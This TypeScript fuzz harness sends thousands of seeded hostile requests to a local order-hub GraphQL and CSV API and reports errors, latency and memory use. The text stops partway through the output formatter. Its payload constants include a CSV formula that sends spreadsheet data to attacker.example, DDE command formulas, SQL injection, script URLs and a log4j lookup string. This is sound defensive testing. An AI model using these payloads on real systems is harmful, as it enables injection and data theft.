/**
 * A bounded, seeded fuzz of the hub's edge: N hostile requests (default 10,000) against the real app, started
 * in-process on PGlite with the embedded demo (sandbox channels with demo orders), listening on 127.0.0.1 only.
 * Every string argument of every query and mutation (read from the schema by introspection) gets NUL bytes, lone
 * surrogates, huge strings, CSV formulas, bad dates; plus bad DateTimes, deep and aliased queries, malformed JSON
 * bodies, `application/graphql` bodies, wrong content types, bad tokens, the CSV routes' query parameters, unknown
 * ids. Prints a tally by HTTP status and `extensions.code`, the INTERNAL and HTTP 500 counts (and where they came
 * from), the slowest request, the count over 2 s, and RSS at start, at its peak and 60 s after the run.
 *
 *   npm run fuzz -w @order-hub/api -- [--requests 10000] [--seed 1] [--concurrency 4] [--timeout-ms 30000] [--no-wait] [--no-doc]
 *
 * The CI runs a small version of it (test/fuzz.test.ts).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { cpus, tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import {
  getNamedType,
  getNullableType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isInterfaceType,
  isUnionType,
  isScalarType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
} from 'graphql';
import { GraphQLSchemaHost } from '@nestjs/graphql';
import { Random } from '@order-hub/sandbox';
import { createApp, type RunningApp } from '../src/bootstrap';
import { loadConfig } from '../src/config/app-config';
import { writeBenchmarkSection } from './benchmarks-doc';
import { ApiTokensService } from '../src/modules/auth/api-tokens.service';

export interface FuzzOptions {
  requests: number;
  seed: number;
  concurrency: number;
  /** Wait this long after the run before the last RSS reading (0: skip). */
  settleMs: number;
  /** A request still unanswered after this long is aborted and counted as a timeout. */
  timeoutMs: number;
  /** Extra environment for the app (e.g. rate limits off). */
  env?: Record<string, string>;
  log?: (line: string) => void;
}

export interface FuzzResult {
  requests: number;
  seed: number;
  concurrency: number;
  /** `HTTP status + code` → count; code is the GraphQL `extensions.code` set (OK when no error), REST for routes. */
  tally: Record<string, number>;
  internal: number;
  http500: number;
  timeouts: number;
  over2s: number;
  slowest: { ms: number; kind: string; what: string };
  /** Where the INTERNAL / 500 answers came from: `kind operation` → count, with one example each. */
  failures: Record<string, { count: number; example: string }>;
  /** Start and after are read after a full garbage collection when Node runs with --expose-gc (npm run fuzz does). */
  rssMb: { start: number; peak: number; after: number | null; settleSeconds: number; gc: boolean };
  /** The requests over 2 s, by kind and operation, with the slowest of each. */
  slow: Record<string, { count: number; maxMs: number }>;
  seconds: number;
}

// ---------------------------------------------------------------------------------------------------------------
// Seeded randomness

/** The sandbox's seeded generator (mulberry32), with the draws the fuzzer makes. */
class Rng {
  private readonly random: Random;
  constructor(seed: number) {
    this.random = new Random(seed);
  }
  float(): number {
    return this.random.next();
  }
  /** 0 … max − 1. */
  int(max: number): number {
    return this.random.int(0, max - 1);
  }
  pick<T>(items: readonly T[]): T {
    return this.random.pick(items);
  }
  chance(p: number): boolean {
    return this.random.chance(p);
  }
  uuid(): string {
    const hex = Array.from({ length: 32 }, () => this.int(16).toString(16)).join('');
    return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Hostile values

const NUL_STRINGS = ['abc\u0000def', '\u0000', '1Z999AA1\u00000123456784', 'UPS\u0000'];
const SURROGATE_STRINGS = ['\uD800', 'x\uDFFFy', 'TRK\uDBFF', '\uDC00\uD800'];
const FORMULA_STRINGS = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];
const URL_STRINGS = ['javascript:alert(document.domain)', 'data:text/html,<script>alert(1)</script>', 'JaVaScRiPt:x'];
const OTHER_STRINGS = [
  "' OR 1=1 --",
  '%_\\',
  '🙂\u202Eevil',
  '<script>alert(1)</script>',
  '',
  ' ',
  '${jndi:ldap://x}',
  '*'.repeat(18) + '!',
];
export const BAD_DATES = [
  'AAAA',
  'yesterday',
  'now',
  '2026-02-30T00:00:00Z',
  '2026-13-01T00:00:00Z',
  '2026-12-03T25:00:00Z',
  '2026-12-03',
  '2026-12-03T10:00:00',
  '',
  '0',
  '1e20',
  '+275760-09-13T00:00:00.001Z',
  '-000001-01-01T00:00:00Z',
  '2026-12-03T10:00:00\u0000Z',
  '2026-12-03T10:00:00+25:00',
];
const UNKNOWN_IDS = ['00000000-0000-0000-0000-000000000000', 'not-an-id', '1', '-1', "1' OR '1'='1", 'a'.repeat(300)];

function hostileString(rng: Rng): string {
  const r = rng.float();
  if (r < 0.3) return rng.pick(NUL_STRINGS);
  if (r < 0.45) return rng.pick(SURROGATE_STRINGS);
  if (r < 0.55) return 'A'.repeat(rng.pick([10_000, 100_000, 1_000_000]));
  if (r < 0.7) return rng.pick(FORMULA_STRINGS);
  if (r < 0.77) return rng.pick(URL_STRINGS);
  if (r < 0.85) return rng.pick(BAD_DATES);
  if (r < 0.92) return rng.pick(UNKNOWN_IDS);
  return rng.pick(OTHER_STRINGS);
}

// ---------------------------------------------------------------------------------------------------------------
// Operations generated from the schema

interface IdPool {
  orders: string[];
  accounts: string[];
  other: string[];
}

interface Operation {
  kind: 'query' | 'mutation';
  field: GraphQLField<unknown, unknown>;
}

type Path = (string | number)[];

/** A plausible value of an input type: real ids where the name says so, valid dates, enum members. */
function plausible(type: GraphQLInputType, name: string, rng: Rng, ids: IdPool, depth = 0, full = false): unknown {
  if (isNonNullType(type)) return plausible(type.ofType, name, rng, ids, depth, full);
  if (isListType(type)) {
    return Array.from({ length: 1 + rng.int(2) }, () => plausible(type.ofType, name, rng, ids, depth, full));
  }
  if (isEnumType(type)) return rng.pick(type.getValues()).name;
  if (isInputObjectType(type)) {
    const out: Record<string, unknown> = {};
    for (const f of Object.values(type.getFields())) {
      if (isNonNullType(f.type) || (full && depth < 4) || (depth < 2 && rng.chance(0.6))) {
        out[f.name] = plausible(f.type, f.name, rng, ids, depth + 1, full);
      }
    }
    return out;
  }
  if (isScalarType(type)) {
    switch (type.name) {
      case 'ID':
        return plausibleId(name, rng, ids);
      case 'Int':
        return /first|quantity|line/i.test(name) ? 1 + rng.int(5) : rng.int(100);
      case 'Float':
        return rng.float() * 100;
      case 'Boolean':
        return rng.chance(0.5);
      case 'DateTime':
        return new Date(Date.now() - rng.int(30 * 86_400_000)).toISOString();
      case 'JSON':
        return {};
      default:
        return plausibleString(name, rng, ids);
    }
  }
  return null;
}

function plausibleId(name: string, rng: Rng, ids: IdPool): string {
  const lower = name.toLowerCase();
  const pool = lower.includes('order')
    ? ids.orders
    : lower.includes('account')
      ? ids.accounts
      : [...ids.orders, ...ids.accounts, ...ids.other];
  return pool.length && rng.chance(0.85) ? rng.pick(pool) : rng.uuid();
}

function plausibleString(name: string, rng: Rng, ids: IdPool): string {
  const lower = name.toLowerCase();
  if (lower.includes('carrier')) return rng.pick(['UPS', 'USPS', 'FedEx', 'OTHER']);
  if (lower.includes('tracking') && lower.includes('url'))
    return 'https://www.ups.com/track?tracknum=1Z999AA10123456784';
  if (lower.includes('tracking')) return '1Z999AA10123456784';
  if (lower.includes('channel')) return rng.pick(['WALMART', 'AMAZON']);
  if (lower.includes('csv'))
    return 'order,line,quantity,carrier,tracking\n' + `${ids.orders[0] ?? 'X'},1,1,UPS,1Z999AA10123456784\n`;
  if (lower.includes('line')) return '1';
  if (lower === 'after') return rng.chance(0.5) ? 'eyJ0IjoiMjAyNi0wMS0wMSJ9' : 'not-a-cursor';
  return `fuzz-${rng.int(1000)}`;
}

/** Paths of every string-like leaf (String, ID, DateTime and custom string scalars) in a value of `type`. */
function stringLeaves(type: GraphQLInputType, value: unknown, path: Path, out: { path: Path; scalar: string }[]): void {
  const t: GraphQLInputType = getNullableType(type);
  if (value === null || value === undefined) return;
  if (isListType(t)) {
    (value as unknown[]).forEach((v, i) => stringLeaves(t.ofType, v, [...path, i], out));
  } else if (isInputObjectType(t)) {
    const fields = t.getFields();
    for (const [k, v] of Object.entries(value as Record<string, unknown>)) {
      if (fields[k]) stringLeaves(fields[k].type, v, [...path, k], out);
    }
  } else if (isScalarType(t) && !['Int', 'Float', 'Boolean', 'JSON'].includes(t.name)) {
    out.push({ path, scalar: t.name });
  }
}

/** Every input position of an operation that could carry a string, with optional ones filled in. */
function allStringArgs(op: Operation): GraphQLArgument[] {
  return op.field.args.filter((a) => {
    const leaves: { path: Path; scalar: string }[] = [];
    stringLeaves(a.type, placeholder(a.type), [], leaves);
    return leaves.length > 0;
  });
}

function placeholder(type: GraphQLInputType): unknown {
  const t: GraphQLInputType = getNullableType(type);
  if (isListType(t)) return [placeholder(t.ofType)];
  if (isInputObjectType(t)) {
    return Object.fromEntries(Object.values(t.getFields()).map((f) => [f.name, placeholder(f.type)]));
  }
  return 'x';
}

function setAt(root: Record<string, unknown>, path: Path, value: unknown): void {
  let node = root as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  node[path[path.length - 1]] = value;
}

/** A GraphQL literal for a value of `type` (strings printed with JSON escapes, which GraphQL shares). */
function literal(type: GraphQLInputType, value: unknown): string {
  const t: GraphQLInputType = getNullableType(type);
  if (value === null || value === undefined) return 'null';
  if (isListType(t)) return `[${(value as unknown[]).map((v) => literal(t.ofType, v)).join(', ')}]`;
  if (isInputObjectType(t)) {
    const fields = t.getFields();
    return `{${Object.entries(value as Record<string, unknown>)
      .filter(([k]) => fields[k])
      .map(([k, v]) => `${k}: ${literal(fields[k].type, v)}`)
      .join(', ')}}`;
  }
  if (typeof value === 'string') return isEnumType(t) ? value : JSON.stringify(value);
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  return '{}';
}

function selection(field: GraphQLField<unknown, unknown>): string {
  const named = getNamedType(field.type);
  return isObjectType(named) || isInterfaceType(named) || isUnionType(named) ? ' { __typename }' : '';
}

interface Built {
  query: string;
  variables: Record<string, unknown>;
  what: string;
}

/**
 * One operation with plausible arguments, where `mutate` changes one string leaf; `inline` prints arguments
 * as literals instead of variables.
 */
function buildOperation(
  op: Operation,
  rng: Rng,
  ids: IdPool,
  mutate: (leaf: { path: Path; scalar: string }) => unknown,
  onlyScalar?: string,
): Built | null {
  const args: Record<string, unknown> = {};
  for (const a of op.field.args) {
    if (isNonNullType(a.type) || rng.chance(0.5))
      args[a.name] = plausible(a.type, a.name, rng, ids, 0, onlyScalar !== undefined);
  }
  // Make sure an optional argument that can hold the target is present.
  const leaves: { path: Path; scalar: string }[] = [];
  for (const a of op.field.args) {
    if (args[a.name] === undefined) {
      const probe: { path: Path; scalar: string }[] = [];
      stringLeaves(a.type, placeholder(a.type), [], probe);
      if (probe.some((p) => !onlyScalar || p.scalar === onlyScalar))
        args[a.name] = plausible(a.type, a.name, rng, ids, 0, onlyScalar !== undefined);
    }
    stringLeaves(a.type, args[a.name], [a.name], leaves);
  }
  const targets = leaves.filter((l) => !onlyScalar || l.scalar === onlyScalar);
  if (!targets.length) return null;
  const target = rng.pick(targets);
  if (target.path.length === 1) args[target.path[0] as string] = mutate(target);
  else setAt(args, target.path, mutate(target));

  const inline = rng.chance(0.4);
  const defs = op.field.args.filter((a) => args[a.name] !== undefined);
  const what = `${op.kind} ${op.field.name}(${target.path.join('.')})${inline ? ' inline' : ''}`;
  if (inline) {
    const argText = defs.map((a) => `${a.name}: ${literal(a.type, args[a.name])}`).join(', ');
    return {
      query: `${op.kind} { ${op.field.name}${argText ? `(${argText})` : ''}${selection(op.field)} }`,
      variables: {},
      what,
    };
  }
  const varDefs = defs.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
  const argText = defs.map((a) => `${a.name}: $${a.name}`).join(', ');
  return {
    query: `${op.kind} Fuzz${varDefs ? `(${varDefs})` : ''} { ${op.field.name}${argText ? `(${argText})` : ''}${selection(op.field)} }`,
    variables: args,
    what,
  };
}

// ---------------------------------------------------------------------------------------------------------------
// Requests

interface Request {
  kind: string;
  what: string;
  method: 'GET' | 'POST';
  path: string;
  headers: Record<string, string>;
  body?: string;
}

interface Tokens {
  admin: string;
  viewer: string;
}

function authHeader(rng: Rng, tokens: Tokens): Record<string, string> {
  const r = rng.float();
  if (r < 0.8) return { authorization: `Bearer ${tokens.admin}` };
  if (r < 0.92) return { authorization: `Bearer ${tokens.viewer}` };
  return {};
}

function gqlRequest(kind: string, built: Built, headers: Record<string, string>): Request {
  return {
    kind,
    what: built.what,
    method: 'POST',
    path: '/graphql',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ query: built.query, variables: built.variables }),
  };
}

const KINDS: [string, number][] = [
  ['hostile-string', 44],
  ['bad-datetime', 8],
  ['unknown-id', 7],
  ['csv-formula', 5],
  ['aliases', 3],
  ['deep', 2],
  ['malformed-json', 6],
  ['application-graphql', 4],
  ['wrong-content-type', 4],
  ['bad-token', 6],
  ['csv-route', 9],
  ['get-query', 2],
];

function pickKind(rng: Rng): string {
  const total = KINDS.reduce((s, [, w]) => s + w, 0);
  let r = rng.float() * total;
  for (const [kind, w] of KINDS) {
    if ((r -= w) < 0) return kind;
  }
  return KINDS[0][0];
}

class Generator {
  private readonly ops: Operation[];
  private readonly dateOps: Operation[];
  private readonly stringOps: Operation[];
  private readonly noArgQueries: string[];

  constructor(
    schema: GraphQLSchema,
    private readonly rng: Rng,
    private readonly ids: IdPool,
    private readonly tokens: Tokens,
  ) {
    const fields = (kind: 'query' | 'mutation') => {
      const type = kind === 'query' ? schema.getQueryType() : schema.getMutationType();
      // Revoking the fuzz's own tokens would turn the rest of the run into UNAUTHENTICATED.
      return Object.values(type?.getFields() ?? {})
        .filter((f) => f.name !== 'revokeApiToken')
        .map((field) => ({ kind, field }));
    };
    this.ops = [...fields('query'), ...fields('mutation')];
    const hasScalar = (op: Operation, scalar: string) =>
      op.field.args.some((a) => {
        const leaves: { path: Path; scalar: string }[] = [];
        stringLeaves(a.type, placeholder(a.type), [], leaves);
        return leaves.some((l) => l.scalar === scalar);
      });
    this.dateOps = this.ops.filter((op) => hasScalar(op, 'DateTime'));
    this.stringOps = this.ops.filter((op) => allStringArgs(op).length > 0);
    this.noArgQueries = fields('query')
      .filter((op) => op.field.args.every((a) => !isNonNullType(a.type)))
      .map((op) => `${op.field.name}${selection(op.field)}`);
  }

  next(): Request {
    const rng = this.rng;
    const kind = pickKind(rng);
    const auth = authHeader(rng, this.tokens);
    switch (kind) {
      case 'hostile-string':
      case 'csv-formula':
      case 'unknown-id': {
        const value = (leaf: { scalar: string }) =>
          kind === 'csv-formula'
            ? rng.pick(FORMULA_STRINGS)
            : kind === 'unknown-id'
              ? leaf.scalar === 'ID'
                ? rng.pick([...UNKNOWN_IDS, rng.uuid()])
                : rng.pick(UNKNOWN_IDS)
              : hostileString(rng);
        for (let tries = 0; tries < 5; tries++) {
          const built = buildOperation(
            rng.pick(this.stringOps),
            rng,
            this.ids,
            value,
            kind === 'unknown-id' ? 'ID' : undefined,
          );
          if (built) return gqlRequest(kind, built, auth);
        }
        return gqlRequest(kind, { query: '{ health { __typename } }', variables: {}, what: 'health' }, auth);
      }
      case 'bad-datetime': {
        for (let tries = 0; tries < 5; tries++) {
          const built = buildOperation(rng.pick(this.dateOps), rng, this.ids, () => rng.pick(BAD_DATES), 'DateTime');
          if (built) return gqlRequest(kind, built, auth);
        }
        const before = JSON.stringify(rng.pick(BAD_DATES));
        return gqlRequest(
          kind,
          { query: `{ mcfOrders(before: ${before}) { id } }`, variables: {}, what: 'mcfOrders(before)' },
          auth,
        );
      }
      case 'aliases': {
        const field = rng.pick([...this.noArgQueries, 'complianceReport(channel: WALMART) { __typename }']);
        const n = rng.pick([10, 100, 1000, 3000]);
        const query = `{ ${Array.from({ length: n }, (_, i) => `a${i}: ${field}`).join(' ')} }`;
        return gqlRequest(kind, { query, variables: {}, what: `${n} × ${field.split(/[ ({]/)[0]}` }, auth);
      }
      case 'deep': {
        const r = rng.float();
        if (r < 0.4) {
          const n = rng.pick([5, 20, 60, 200]);
          const query = `{ __type(name: "Order") { ${'fields { type { ofType { '.repeat(n)}name${' } } }'.repeat(n)} } }`;
          return gqlRequest(kind, { query, variables: {}, what: `introspection depth ${n}` }, auth);
        }
        if (r < 0.7) {
          const n = rng.pick([3, 12, 40]);
          const inner = 'account { id }';
          let sel = inner;
          for (let i = 0; i < n; i++) sel = `lines { sku } account { id name } ${i % 2 ? sel : ''}`;
          const query = `{ orders(first: 50) { edges { node { ${sel} } } } }`;
          return gqlRequest(kind, { query, variables: {}, what: `orders nesting ${n}` }, auth);
        }
        const query =
          'query Q { ...A } fragment A on Query { ...B health { ok } } fragment B on Query { ...A me { id } }';
        return gqlRequest(kind, { query, variables: {}, what: 'fragment cycle' }, auth);
      }
      case 'malformed-json': {
        const bodies = [
          '{"query": ',
          '[]',
          'null',
          '"{ health { ok } }"',
          '{"query": 5}',
          '{"query": "{ health { ok } }", "variables": "x"}',
          '{"query": "{ health { ok } }", "variables": [1]}',
          '{"query": "query($a: String) { health { ok } }", "variables": {"a": {"b": 1}}}',
          '{"query": "{ health { ok } }", "operationName": 7}',
          '{"query": "{ health { ok } }", "extensions": {"persistedQuery": {"version": 1, "sha256Hash": "x"}}}',
          '{"query":"\\u0000"}',
          '{"query":"{ health { ok } }"' + ',"x":1'.repeat(2000) + '}',
          '{"__proto__": {"query": "{ me { id } }"}}',
          '\u0000\u0001\u0002',
          '{"query": "{ a' + '{'.repeat(5000) + '"}',
          '[{"query": "{ health { ok } }"}, {"query": "{ me { id } }"}]',
        ];
        const body = rng.pick(bodies);
        return {
          kind,
          what: body.slice(0, 40),
          method: 'POST',
          path: '/graphql',
          headers: { 'content-type': 'application/json', ...auth },
          body,
        };
      }
      case 'application-graphql': {
        const bodies = [
          '{ health { ok } }',
          '{ me { id role } }',
          'mutation { createApiToken(input: { name: "x\\u0000", role: VIEWER }) { token } }',
          '',
          '{',
          '{"query": "{ health { ok } }"}',
          'query { mcfOrders(before: "AAAA") { id } }',
          '\u0000',
        ];
        const body = rng.pick(bodies);
        return {
          kind,
          what: body.slice(0, 40) || '(empty)',
          method: 'POST',
          path: '/graphql',
          headers: { 'content-type': 'application/graphql', ...auth },
          body,
        };
      }
      case 'wrong-content-type': {
        const type = rng.pick([
          'text/plain',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/xml',
          'application/json; charset=utf-16',
          'application/octet-stream',
          '',
        ]);
        const body = rng.chance(0.5) ? JSON.stringify({ query: '{ health { ok } }' }) : 'query={health{status}}';
        const headers: Record<string, string> = { ...auth };
        if (type) headers['content-type'] = type;
        return { kind, what: type || '(none)', method: 'POST', path: '/graphql', headers, body };
      }
      case 'bad-token': {
        const header = rng.pick([
          'Bearer ',
          'Bearer x',
          `Bearer ${'a'.repeat(10_000)}`,
          `Bearer ${this.tokens.admin}x`,
          `Bearer ${this.tokens.admin.slice(0, -1)}`,
          'Basic YWRtaW46YWRtaW4=',
          `bearer ${this.tokens.admin}`,
          'Bearer ohub_' + 'A'.repeat(43),
          'Bearer ' + "' OR 1=1 --",
          'Bearer %00',
          'Bearer \u00e9\u00e8',
        ]);
        const query = rng.pick([
          '{ me { id } }',
          '{ health { ok } }',
          'mutation { syncAccount(accountId: "x") { __typename } }',
        ]);
        return {
          kind,
          what: header.slice(0, 20),
          method: 'POST',
          path: '/graphql',
          headers: { 'content-type': 'application/json', authorization: header },
          body: JSON.stringify({ query }),
        };
      }
      case 'csv-route': {
        const r = rng.float();
        if (r < 0.75) {
          const params: string[] = [];
          if (rng.chance(0.9)) params.push(`channel=${rng.pick(['WALMART', 'AMAZON', 'walmart', 'EBAY', '%00', ''])}`);
          if (rng.chance(0.5))
            params.push(
              `accountId=${encodeURIComponent(rng.pick([...this.ids.accounts, ...UNKNOWN_IDS, rng.uuid()]))}`,
            );
          if (rng.chance(0.8)) {
            params.push(
              `asOf=${rng.pick([
                encodeURIComponent(rng.pick(BAD_DATES)),
                '2000-01-01T00:00:00Z',
                '1970-01-01T00:00:00Z',
                '2999-01-01T00:00:00Z',
                new Date().toISOString(),
                '2026-12-03T00:00:00%00Z',
                '%ED%A0%80',
                '%FF%FE',
                '2026-12-03T00:00:00Z&asOf=2026-12-04T00:00:00Z',
              ])}`,
            );
          }
          if (rng.chance(0.1)) params.push(`x=${'A'.repeat(5000)}`);
          return {
            kind,
            what: `report.csv?${params.join('&').slice(0, 60)}`,
            method: 'GET',
            path: `/api/compliance/report.csv?${params.join('&')}`,
            headers: auth,
          };
        }
        const id = rng.pick([
          ...this.ids.orders.slice(0, 5),
          ...UNKNOWN_IDS.map(encodeURIComponent),
          '%00',
          '%ED%A0%80',
          rng.uuid(),
        ]);
        return {
          kind,
          what: `evidence.csv ${decodeSafe(id).slice(0, 40)}`,
          method: 'GET',
          path: `/api/orders/${id}/evidence.csv`,
          headers: auth,
        };
      }
      default: {
        const query = rng.pick([
          '{ health { ok } }',
          '{ mcfOrders(before: "AAAA") { id } }',
          '{ trackingNumberCheck(carrier: "UPS", trackingNumber: "\\u0000") { valid } }',
          'mutation { syncAccount(accountId: "x") { __typename } }',
        ]);
        return {
          kind: 'get-query',
          what: query.slice(0, 40),
          method: 'GET',
          path: `/graphql?query=${encodeURIComponent(query)}`,
          headers: auth,
        };
      }
    }
  }
}

function decodeSafe(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Running

interface Answer {
  status: number;
  codes: string[];
  ms: number;
  detail: string;
}

async function send(baseUrl: string, req: Request, timeoutMs: number): Promise<Answer> {
  const start = performance.now();
  try {
    const res = await fetch(baseUrl + req.path, {
      method: req.method,
      headers: req.headers,
      body: req.body,
      signal: AbortSignal.timeout(timeoutMs),
    });
    const text = await res.text();
    const ms = performance.now() - start;
    if (req.path.startsWith('/api/')) return { status: res.status, codes: ['REST'], ms, detail: text.slice(0, 200) };
    let codes: string[] = ['non-json'];
    let detail = text.slice(0, 200);
    try {
      const body = JSON.parse(text) as {
        errors?: { message?: string; path?: unknown; extensions?: { code?: string } }[];
      };
      const errors = Array.isArray(body.errors) ? body.errors : [];
      codes = errors.length ? [...new Set(errors.map((e) => e.extensions?.code ?? 'no-code'))].sort() : ['OK'];
      const internal = errors.find((e) => e.extensions?.code === 'INTERNAL' || !e.extensions?.code);
      if (internal) detail = `${internal.message} ${JSON.stringify(internal.path ?? '')}`;
    } catch {
      /* not JSON: counted as such */
    }
    return { status: res.status, codes, ms, detail };
  } catch (err) {
    return { status: 0, codes: ['timeout'], ms: performance.now() - start, detail: (err as Error).message };
  }
}

async function startHub(options: FuzzOptions): Promise<{ running: RunningApp; baseUrl: string; dataDir: string }> {
  const dataDir = mkdtempSync(join(tmpdir(), 'order-hub-fuzz-'));
  const config = loadConfig({
    DATA_DIR: dataDir,
    PGLITE_DIR: 'memory',
    LOG_LEVEL: 'silent',
    DEMO_DATA: 'true',
    SANDBOX_PORT: '0',
    // Rate limits would answer most of a fuzz with 429 and hide what the requests themselves do.
    RATE_LIMIT_PER_MINUTE: '0',
    AUTH_FAILURE_LIMIT_PER_MINUTE: '0',
    ...options.env,
  });
  const running = await createApp(config);
  await running.app.listen(0, '127.0.0.1');
  const { port } = running.app.getHttpServer().address() as { port: number };
  return { running, baseUrl: `http://127.0.0.1:${port}`, dataDir };
}

async function gql<T>(
  baseUrl: string,
  token: string,
  query: string,
  variables: Record<string, unknown> = {},
): Promise<T> {
  const res = await fetch(`${baseUrl}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
    body: JSON.stringify({ query, variables }),
  });
  const body = (await res.json()) as { data?: T; errors?: unknown };
  if (!body.data) throw new Error(`Setup query failed: ${JSON.stringify(body.errors)}`);
  return body.data;
}

/** Waits for the demo's first import, then gathers real ids so hostile values reach past the id lookups. */
async function prepare(baseUrl: string, admin: string): Promise<{ ids: IdPool; tokens: Tokens }> {
  const deadline = Date.now() + 120_000;
  let orders: string[] = [];
  while (Date.now() < deadline) {
    const data = await gql<{ orders: { edges: { node: { id: string } }[] } }>(
      baseUrl,
      admin,
      '{ orders(first: 50) { edges { node { id } } } }',
    );
    orders = data.orders.edges.map((e) => e.node.id);
    if (orders.length >= 20) break;
    await new Promise((r) => setTimeout(r, 500));
  }
  const accounts = (await gql<{ channelAccounts: { id: string }[] }>(baseUrl, admin, '{ channelAccounts { id } }'))
    .channelAccounts;
  const viewer = await gql<{ createApiToken: { token: string } }>(
    baseUrl,
    admin,
    'mutation { createApiToken(input: { name: "fuzz viewer", role: VIEWER }) { token } }',
  );
  const other: string[] = [];
  try {
    const data = await gql<{ alerts: { edges: { node: { id: string } }[] } }>(
      baseUrl,
      admin,
      '{ alerts(first: 10) { edges { node { id } } } }',
    );
    other.push(...data.alerts.edges.map((e) => e.node.id));
  } catch {
    /* no alerts is fine */
  }
  return {
    ids: { orders, accounts: accounts.map((a) => a.id), other },
    tokens: { admin, viewer: viewer.createApiToken.token },
  };
}

const mb = (bytes: number) => Math.round(bytes / 1024 / 1024);

/** RSS now, after a full collection when Node exposes one (garbage the heap has not yet returned is not held). */
function rss(): number {
  global.gc?.();
  return process.memoryUsage().rss;
}

export async function runFuzz(options: FuzzOptions): Promise<FuzzResult> {
  const log = options.log ?? (() => undefined);
  const { running, baseUrl, dataDir } = await startHub(options);
  try {
    const admin = (await running.app.get(ApiTokensService).create('fuzz admin', 'ADMIN', 'system:fuzz')).secret;
    const { ids, tokens } = await prepare(baseUrl, admin);
    log(`hub at ${baseUrl}: ${ids.orders.length} orders, ${ids.accounts.length} accounts`);
    // The app's own schema (an introspection query would be deeper than the depth limit allows).
    const schema = running.app.get(GraphQLSchemaHost).schema;
    const rng = new Rng(options.seed);
    const generator = new Generator(schema, rng, ids, tokens);
    // Requests are generated one at a time, in order, from the seed: the same mix whatever the timing, and the
    // fuzzer holds no more than the requests in flight (huge strings included), so RSS is the hub's.
    const rssStart = rss();
    let rssPeak = rssStart;
    const sampler = setInterval(() => {
      rssPeak = Math.max(rssPeak, process.memoryUsage().rss);
    }, 100);
    const tally: Record<string, number> = {};
    const failures: FuzzResult['failures'] = {};
    let internal = 0;
    let http500 = 0;
    let timeouts = 0;
    let over2s = 0;
    const slow: FuzzResult['slow'] = {};
    let slowest = { ms: 0, kind: '', what: '' };
    const started = performance.now();
    let nextIndex = 0;
    let done = 0;
    const worker = async () => {
      while (nextIndex < options.requests) {
        nextIndex++;
        const req = generator.next();
        const answer = await send(baseUrl, req, options.timeoutMs);
        const key = `${answer.status} ${answer.codes.join('+')}`;
        tally[key] = (tally[key] ?? 0) + 1;
        const isInternal = answer.codes.includes('INTERNAL') || answer.codes.includes('no-code');
        if (isInternal) internal++;
        if (answer.status >= 500) http500++;
        if (answer.codes.includes('timeout')) timeouts++;
        if (answer.ms > 2000) {
          over2s++;
          const what = `${req.kind} ${req.what.replace(/[(?].*$/, '')}`;
          slow[what] ??= { count: 0, maxMs: 0 };
          slow[what].count++;
          slow[what].maxMs = Math.max(slow[what].maxMs, answer.ms);
        }
        if (answer.ms > slowest.ms) slowest = { ms: answer.ms, kind: req.kind, what: req.what };
        if (isInternal || answer.status >= 500 || answer.codes.includes('timeout')) {
          const where = `${answer.status} ${answer.codes.join('+')} ${req.kind} ${req.what.replace(/\(.*$/, '')}`;
          failures[where] ??= { count: 0, example: `${req.what} → ${answer.detail}` };
          failures[where].count++;
        }
        if (++done % 1000 === 0) log(`${done} requests, ${internal} INTERNAL, ${http500} HTTP 500`);
      }
    };
    await Promise.all(Array.from({ length: Math.max(1, options.concurrency) }, worker));
    const seconds = (performance.now() - started) / 1000;
    clearInterval(sampler);
    rssPeak = Math.max(rssPeak, process.memoryUsage().rss);
    let rssAfter: number | null = null;
    if (options.settleMs > 0) {
      log(`waiting ${options.settleMs / 1000} s for the RSS after the run`);
      await new Promise((r) => setTimeout(r, options.settleMs));
      rssAfter = rss();
    }
    return {
      requests: options.requests,
      seed: options.seed,
      concurrency: Math.max(1, options.concurrency),
      tally,
      internal,
      http500,
      timeouts,
      over2s,
      slowest,
      slow,
      failures,
      rssMb: {
        start: mb(rssStart),
        peak: mb(rssPeak),
        after: rssAfter === null ? null : mb(rssAfter),
        settleSeconds: options.settleMs / 1000,
        gc: typeof global.gc === 'function',
      },
      seconds,
    };
  } finally {
    await running.close();
    rmSync(dataDir, { recursive: true, force: true });
  }
}

export function formatFuzzResult(r: FuzzResult): string {
  const rows = Object.entries(r.tally).sort((a, b) => b[1] - a[1]);
  const failures = Object.entries(r.failures).sort((a, b) => b[1].count - a[1].count);
  const rss = r.rssMb;
  return [
    `${r.requests.toLocaleString('en-US')} hostile requests (seed ${r.seed}, ${r.concurrency} at a time) in ${r.seconds.toFixed(0)} s against the hub on PGlite with the`,
    `demo's sandbox channels, on 127.0.0.1; measured on ${new Date().toISOString().slice(0, 10)}, ${cpus().length} cores, Node ${process.version}.`,
    '',
    '| HTTP status | extensions.code | requests |',
    '|---|---|---|',
    ...rows.map(([key, n]) => {
      const [status, code] = key.split(' ');
      return `| ${status} | ${code} | ${n} |`;
    }),
    '',
    `- INTERNAL: ${r.internal}; HTTP 500: ${r.http500}; timeouts: ${r.timeouts}`,
    `- slowest: ${(r.slowest.ms / 1000).toFixed(2)} s (${r.slowest.kind}: ${r.slowest.what.slice(0, 80)}); over 2 s: ${r.over2s}`,
